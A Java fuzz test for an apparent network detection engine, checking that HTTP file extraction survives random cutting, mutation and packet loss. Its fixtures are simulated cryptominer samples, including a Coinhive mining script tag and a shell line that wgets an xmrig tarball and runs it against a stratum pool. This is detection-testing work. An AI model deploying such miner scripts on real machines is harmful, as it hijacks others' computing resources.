package io.davylamp.fuzz;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.davylamp.detect.Rules;
import io.davylamp.Catalog;
import io.davylamp.event.Side;
import io.davylamp.event.TreeEveObject;
import io.davylamp.flow.Flow;
import io.davylamp.flow.FlowFixture;
import io.davylamp.flow.FlowListener;
import io.davylamp.protocol.Protocols;
import io.davylamp.protocol.SessionLimits;
import io.davylamp.protocol.Sessions;
import io.davylamp.protocol.SessionsFixture;
import io.davylamp.protocol.dns.DnsOptions;
import io.davylamp.protocol.http.HttpOptions;
import io.davylamp.protocol.stratum.StratumOptions;
import io.davylamp.sim.Files;
import io.davylamp.sim.Octets;
import io.davylamp.stats.Counters;
import io.davylamp.time.PacketClock;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;

/** Whatever travels in HTTP bodies and however it is cut, nothing throws, nothing leaks, and whole files are told the same. */
final class FileFuzzTest {
  private static final long SEED = Long.getLong("seed", 20_260_109L);
  private static final byte[] MINER = Files.elf("XMRig", "--donate-level", "stratum+tcp://", "keepalived", "rx/0");
  private static final List<byte[]> BODIES = List.of(MINER, Files.pe("XMRig"), Files.tarGz(Files.plain("a/b", "c"), Files.executable("a/xmrig", MINER)),
      Files.zip(true, Files.plain("readme", "x"), Files.executable("xmrig.exe", MINER)), Files.zip(false, Files.executable("xmrig", MINER)),
      Files.tar(Files.executable("xmrig", MINER)), Files.gzip(MINER), Files.wasm(40, new byte[] {0x63, 0x7c, 0x77, 0x7b, (byte) 0xf2, 0x6b, 0x6f, (byte) 0xc5}),
      Files.text("<html><script src=coinhive.min.js></script><script>new CoinHive.Anonymous('k',{throttle:0}).start()</script>"),
      Files.text("#!/bin/sh\nWALLET=1\nwget http://a/xmrig-1.tar.gz\n./x -o stratum+tcp://b -a rx/0\n"),
      Files.text("{\"cpu\":true,\"cuda\":false,\"donate-level\":1,\"pools\":[{\"url\":\"a:1\",\"user\":\"b\"}]}"));
  private static final String[] TARGETS = {"/xmrig-6.26.0-linux-x64.tar.gz", "/a", "/setup_c3pool_miner.sh", "/v2/a/xmrig/manifests/1", "/lib/coinhive.min.js"};

  private final PacketClock clock = new PacketClock();
  private final Counters counters = new Counters();
  private final List<String> told = new ArrayList<>();
  private final List<FlowListener> detectors = new ArrayList<>();
  private final Sessions sessions;
  private int alerts;

  FileFuzzTest() throws Exception {
    Catalog catalog = new Catalog(Rules.load(Path.of("rules")), Catalog.Options.DEFAULT, null, null);
    sessions = new Sessions(new Protocols(catalog.protocols()), (flow, side, event) -> {
      if (event.type().equals("fileinfo")) {
        TreeEveObject out = new TreeEveObject();
        event.write(out);
        event.writeOwn(out);
        told.add(out.root().toString());
      }
      detectors.forEach(detector -> detector.onEvent(flow, side, event));
    }, clock, counters, new SessionLimits(16, 1 << 18, 64 << 10, 2 << 10, 3));
    detectors.addAll(catalog.detectors(null, clock, (flow, side, alert) -> alerts++, counters));
  }

  private static byte[] answer(byte[] body) {
    return new Octets().text("HTTP/1.1 200 OK\r\nContent-Length: " + body.length + "\r\n\r\n").put(body).bytes();
  }

  private void play(String target, byte[] answer, Random cut, Random gaps) {
    Flow flow = FlowFixture.tcp(80);
    sessions.open(flow);
    SessionsFixture.send(flow, Side.CLIENT, Files.text("GET " + target + " HTTP/1.1\r\nHost: a.example\r\n\r\n"));
    int longest = 1 + cut.nextInt(answer.length);
    for (int at = 0; at < answer.length; ) {
      int length = Math.min(answer.length - at, 1 + cut.nextInt(longest));
      if (gaps != null && flow.listener() != null && gaps.nextInt(8) == 0) {
        flow.listener().onGap(Side.SERVER, length);
      } else {
        SessionsFixture.send(flow, Side.SERVER, Arrays.copyOfRange(answer, at, at + length));
      }
      at += length;
    }
    sessions.close(flow);
    assertEquals(0, sessions.inUse());
    assertEquals(0, sessions.carryBytesInUse());
  }

  @Test
  void howWholeFilesAreCutChangesNothing() {
    Random random = new Random(SEED);
    for (byte[] body : BODIES) {
      for (int round = 0; round < 60; round++) {
        told.clear();
        play("/a", answer(body), random, null);
        String first = told.get(0);
        play("/a", answer(body), random, null);
        assertEquals(List.of(first, first), told, "seed " + SEED);
      }
    }
    assertTrue(alerts > 0);
  }

  @Test
  void mutatedAndLossyFilesNeitherThrowNorLeak() {
    Random random = new Random(SEED);
    for (int round = 0; round < 30_000; round++) {
      byte[] body = BODIES.get(random.nextInt(BODIES.size())).clone();
      for (int i = random.nextInt(8); i > 0; i--) {
        body[random.nextInt(body.length)] = (byte) random.nextInt();
      }
      byte[] answer = answer(random.nextInt(4) == 0 ? Arrays.copyOf(body, 1 + random.nextInt(body.length)) : body);
      if (random.nextInt(8) == 0) {
        answer[random.nextInt(Math.min(60, answer.length))] = (byte) random.nextInt();
      }
      play(TARGETS[random.nextInt(TARGETS.length)], answer, random, random.nextBoolean() ? random : null);
    }
  }
}
